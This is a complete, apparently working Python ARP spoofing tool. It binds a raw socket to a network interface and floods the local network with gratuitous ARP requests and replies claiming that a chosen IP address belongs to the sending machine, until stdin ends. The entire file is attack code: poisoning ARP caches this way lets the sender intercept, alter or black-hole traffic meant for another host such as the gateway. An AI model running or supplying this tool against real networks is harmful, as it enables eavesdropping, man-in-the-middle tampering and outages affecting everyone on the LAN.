#!/usr/bin/env python3
"""Tells a whole LAN, again and again, that an address is at this host (RFC 826), until stdin ends.
usage: arp_spoofer.py INTERFACE ADDRESS"""
import select
import socket
import struct
import sys

PACE_S = 0.1
ARP, BROADCAST = 0x0806, b"\xff" * 6


def claim(mac, address, operation):
    owner = socket.inet_aton(address)
    packet = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + mac + owner + BROADCAST + owner
    return BROADCAST + mac + struct.pack("!H", ARP) + packet


def main():
    interface, address = sys.argv[1:3]
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((interface, 0))
    mac = wire.getsockname()[4]
    while not select.select([sys.stdin], [], [], PACE_S)[0]:
        for operation in (1, 2):
            wire.send(claim(mac, address, operation))


if __name__ == "__main__":
    main()
